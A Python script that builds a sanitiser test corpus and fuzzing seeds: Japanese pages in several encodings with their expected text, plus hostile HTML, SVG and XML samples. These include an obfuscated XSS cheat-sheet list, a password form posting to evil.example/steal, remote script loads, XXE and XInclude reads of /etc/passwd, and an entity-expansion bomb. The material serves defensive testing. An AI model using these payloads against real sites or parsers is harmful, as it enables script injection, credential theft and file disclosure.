#!/usr/bin/env python3
"""Make the HTML, SVG and XML samples for the web family.

Writes corpus/web/NAME for every sample and corpus/web/NAME.text for the
benign pages: the visible text (words in order) that must survive, taken
from the page before it is encoded, by this script alone. Hostile pages
hold the constructs of the threat list (scripts, event handlers,
javascript:/vbscript:/data: URLs in every spelling the XSS cheat sheets
use, frames, objects, forms, meta refresh, base, link imports, CSS
expression/behavior/-moz-binding/@import/url(), SVG script, foreignObject
and animations of href, DOCTYPEs and entities). Also writes fuzzing
seeds to corpus/seeds/{html,svg,xml}/.

    python3 corpus/make-web.py

Python standard library only; deterministic. All text is written here.
"""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "web")
SEEDS = os.path.join(HERE, "seeds")

JA = "お知らせ：令和七年度の住民税の申告は三月十五日までです。窓口は市役所本庁舎二階①番です。"


def write(name, data, seed=None):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    if seed:
        d = os.path.join(SEEDS, seed)
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)


def text(name, words):
    with open(os.path.join(OUT, name + ".text"), "w", encoding="utf-8") as f:
        f.write(words + "\n")


# ---- benign pages: Japanese in every encoding, a page like a real one ----

def ja_page(charset):
    return (f'<!DOCTYPE html>\n<html lang="ja"><head><meta charset="{charset}">'
            f"<title>市からのお知らせ</title></head>\n<body><h1>住民税について</h1>\n"
            f"<p>{JA}</p>\n<p>問い合わせ：税務課 (内線 1234)</p></body></html>\n")


JA_TEXT = "市からのお知らせ 住民税について " + JA + " 問い合わせ：税務課 (内線 1234)"

for name, cs, codec in [("ja-utf8.html", "utf-8", "utf-8"),
                        ("ja-sjis.html", "Shift_JIS", "cp932"),
                        ("ja-eucjp.html", "EUC-JP", "euc_jp"),
                        ("ja-iso2022jp.html", "ISO-2022-JP", "iso2022_jp")]:
    # ① is not in EUC-JP or ISO-2022-JP proper: those pages say (1).
    page = ja_page(cs)
    want = JA_TEXT
    if codec in ("euc_jp", "iso2022_jp"):
        page = page.replace("①", "(1)")
        want = want.replace("①", "(1)")
    write(name, page.encode(codec), "html")
    text(name, want)

# Undeclared Shift_JIS: guessed.
page = ja_page("x").replace('<meta charset="x">', "")
write("ja-sjis-undeclared.html", page.encode("cp932"))
text("ja-sjis-undeclared.html", JA_TEXT)

REAL = """<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>北町 防災マップ</title>
<style type="text/css">
body { font-family: sans-serif; color: #222; }
table.list td { border: 1px solid #999; padding: 4px; }
.logo { background: url(images/bg.png) no-repeat; }
</style></head>
<body bgcolor="#ffffff">
<div class="header"><img src="images/logo.png" alt="北町ロゴ" width="120" height="40">
<h1>防災マップ</h1></div>
<ul><li><a href="https://www.city.example.lg.jp/bousai/">防災情報トップ</a></li>
<li><a href="map.html#north">北地区</a></li>
<li><a href="mailto:bousai@city.example.lg.jp">メールで問い合わせ</a></li></ul>
<table class="list" border="1" cellpadding="2">
<caption>避難所一覧</caption>
<thead><tr><th>名称</th><th>住所</th><th>収容人数</th></tr></thead>
<tbody><tr><td>北小学校</td><td>北町1-2-3</td><td align="right">500</td></tr>
<tr><td>市民体育館</td><td>北町4-5-6</td><td align="right">1200</td></tr></tbody>
</table>
<p style="color: #c00; font-weight: bold">災害時は<strong>落ち着いて</strong>行動してください。</p>
<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="地図"> <a href="/pdf/map.pdf">PDF版</a></p>
<blockquote cite="https://example.jp/">備えあれば憂いなし</blockquote>
<pre>連絡先:
  防災課 0123-45-6789</pre>
</body></html>
"""
write("realworld.html", REAL.encode("utf-8"), "html")
text("realworld.html",
     "北町 防災マップ 防災マップ 防災情報トップ 北地区 メールで問い合わせ 避難所一覧 名称 住所 "
     "収容人数 北小学校 北町1-2-3 500 市民体育館 北町4-5-6 1200 災害時は 落ち着いて "
     "行動してください。 PDF版 備えあれば憂いなし 連絡先: 防災課 0123-45-6789")

# ---- hostile pages ----

XSS = [
    '<script>alert(1)</script>',
    '<ScRiPt SrC="http://evil.example/x.js"></sCrIpT>',
    '<IMG SRC="javascript:alert(1)">',
    '<IMG SRC=JaVaScRiPt:alert(1)>',
    '<a href="jav&#x61;script:alert(1)">ent-hex</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent-dec</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">ent-pad</a>',
    '<a href="jav&#x09;ascript:alert(1)">ent-tab</a>',
    '<a href="jav\nascript:alert(1)">newline</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href=" &#14;  javascript:alert(1)">lead</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">colon-ent</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="VBSCRIPT:msgbox(1)">vb-upper</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="file:///C:/Windows/System32/calc.exe">file</a>',
    '<a href="//evil.example/share/x">netpath</a>',
    '<img src="\\\\evil.example\\share\\x.png">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="x" onerror="alert(1)">',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<BODY ONLOAD=alert(1)>',
    '<div onmouseover="alert(1)" OnClick="alert(2)">hover</div>',
    '<div style="background-image: url(javascript:alert(1))">css-url</div>',
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">css-url-ent</div>',
    '<div style="width: expression(alert(1));">expr</div>',
    '<div style="width: expr/**/ession(alert(1))">expr-comment</div>',
    '<div style="background:url(java\\73 cript:alert(1))">css-escape</div>',
    '<div style="behavior: url(x.htc)">behavior</div>',
    '<div style="-moz-binding:url(http://evil.example/x.xml#xss)">binding</div>',
    '<style>@import "http://evil.example/x.css";</style>',
    '<style>body { background: url("javascript:alert(1)") }</style>',
    '<style>p { color: red }</style>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="import" href="http://evil.example/x.html">',
    '<link rel="preload" as="script" href="http://evil.example/x.js">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<applet code="Evil.class"></applet>',
    '<form action="http://evil.example/steal"><input name="pw" type="password">'
    '<button formaction="javascript:alert(1)">送信</button></form>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>svg-link</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style>'
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '</table></mglyph></mtext></math>',
    '<math href="javascript:alert(1)">math-href</math>',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><script>alert(1)</script></textarea>',
    '<template><script>alert(1)</script></template>',
    '<a href="https://safe.example/">安全なリンク</a>',
]
page = ("<html><head><title>XSS</title></head><body>\n" + "\n".join(XSS) +
        "\n<p>最後の段落</p></body></html>\n")
write("xss-cheatsheet.html", page.encode("utf-8"), "html")
for i, v in enumerate(XSS):
    write(f"xss-{i:02d}.html", v.encode("utf-8"))

sjis = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">'
        '<title>シフトJIS</title><script>alert("ｽｸﾘﾌﾟﾄ")</script></head>'
        f'<body onload="alert(1)"><p>{JA}</p><a href="javascript:alert(1)">リンク</a>'
        '<img src="x" onerror="alert(2)"></body></html>')
write("sjis-script.html", sjis.encode("cp932"), "html")

write("utf16-script.html", ("\ufeff<html><body><p>UTF-16 ページ</p><script>alert(1)</script>"
                            "<a href='javascript:alert(1)'>x</a></body></html>").encode("utf-16-le"),
      "html")
write("utf16le-nobom.html", ("<html><body><p>BOMなし</p><img src=x onerror=alert(1)></body></html>"
                             ).encode("utf-16-le"))
write("utf7.html", b'<html><head><meta charset="utf-7"></head><body>'
      b'+ADw-script+AD4-alert(1)+ADw-/script+AD4-</body></html>')
write("fragment.html", b"<p>just a <b>fragment</b> with <script>alert(1)</script></p>\n")

# ---- SVG ----

SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
write("benign.svg", f"""<?xml version="1.0" encoding="UTF-8"?>
<svg {SVG_NS} width="200" height="100" viewBox="0 0 200 100">
<title>案内図</title>
<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#00f"/></linearGradient>
<symbol id="pin"><circle cx="5" cy="5" r="5" fill="red"/></symbol></defs>
<rect x="0" y="0" width="200" height="100" fill="url(#g)" style="stroke: black; stroke-width: 2"/>
<use xlink:href="#pin" x="20" y="20"/>
<image x="50" y="50" width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>
<text x="10" y="90" font-size="12">市役所はこちら</text>
<circle cx="150" cy="50" r="10" fill="green"><animate attributeName="r" from="10" to="20" dur="2s" repeatCount="indefinite"/></circle>
</svg>
""".encode("utf-8"), "svg")

write("hostile.svg", f"""<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>
<svg {SVG_NS} onload="alert(1)" width="100" height="100">
<script type="text/javascript">alert(1)</script>
<SCRIPT>alert(2)</SCRIPT>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(3)</svg:script>
<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(4)</script><iframe src="javascript:alert(5)"/></body></foreignObject>
<a xlink:href="javascript:alert(6)"><text x="0" y="10">click</text></a>
<a href="jav&#x61;script:alert(7)"><text x="0" y="20">click2</text></a>
<a><animate attributeName="href" to="javascript:alert(8)" begin="0s"/><text x="0" y="30">anim</text></a>
<a><set attributeName="xlink:href" to="javascript:alert(9)"/><text x="0" y="40">set</text></a>
<animateTransform attributeName="transform" type="rotate" values="javascript:alert(1)"/>
<image href="http://evil.example/track.png" width="1" height="1"/>
<image xlink:href="file:///etc/passwd" width="1" height="1"/>
<use href="http://evil.example/x.svg#a"/>
<use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/>
<style>@import url(http://evil.example/x.css); rect {{ fill: red }}</style>
<rect width="10" height="10" fill="url(http://evil.example/#p)" onclick="alert(10)" style="filter: url(http://evil.example/f.svg#f); fill: blue"/>
<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(11)</handler>
<!-- comment --><![CDATA[<script>alert(12)</script>]]>
<text x="0" y="90">残る文字</text>
</svg>
""".encode("utf-8"), "svg")

write("doctype.svg", f"""<?xml version="1.0" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg {SVG_NS} width="10" height="10"><rect width="10" height="10"/></svg>
""".encode("utf-8"), "svg")
write("xxe.svg", f"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg {SVG_NS}><text>&xxe;</text></svg>
""".encode("utf-8"), "svg")
write("lol.svg", (f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "lol">'
                  + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">'
                            for i in range(8))
                  + f']>\n<svg {SVG_NS}><text>&i;</text></svg>\n').encode("utf-8"))
write("utf16.svg", (f'\ufeff<svg {SVG_NS}><script>alert(1)</script><text y="10">UTF-16 の図</text>'
                    '</svg>\n').encode("utf-16-le"), "svg")
write("noprolog.svg", f'<svg {SVG_NS} onload="alert(1)"><circle r="4"/></svg>\n'.encode("utf-8"))
write("undeclared-entity.svg", f'<svg {SVG_NS}><text>&nbsp;</text></svg>'.encode("utf-8"))

# ---- XML ----

write("benign-sjis.xml", ('<?xml version="1.0" encoding="Shift_JIS"?>\n'
                          '<申請書 番号="12"><氏名>山田 太郎</氏名><住所>北町1-2-3</住所>'
                          f'<備考>{JA}</備考></申請書>\n').encode("cp932"), "xml")
write("utf16-noprolog.xml", "\ufeff<data><item>一</item><item>二</item></data>\n".encode("utf-16-le"),
      "xml")
write("utf16le-nobom.xml", "<data><item>一</item></data>".encode("utf-16-le"))
write("stylesheet.xml", b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" '
      b'href="http://evil.example/x.xsl"?>\n<doc><p>text</p></doc>\n', "xml")
write("doctype.xml", b'<?xml version="1.0"?>\n<!DOCTYPE doc SYSTEM "http://evil.example/x.dtd">\n'
      b'<doc/>\n', "xml")
write("xxe.xml", b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
      b'<d>&x;</d>\n', "xml")
write("xhtml-script.xml", b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml">'
      b'<body><script>alert(1)</script></body></html>\n')
write("xinclude.xml", b'<?xml version="1.0"?>\n<doc xmlns:xi="http://www.w3.org/2001/XInclude">'
      b'<xi:include href="file:///etc/passwd" parse="text"/></doc>\n')
write("xslt.xml", b'<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" '
      b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"/>'
      b'</xsl:stylesheet>\n')
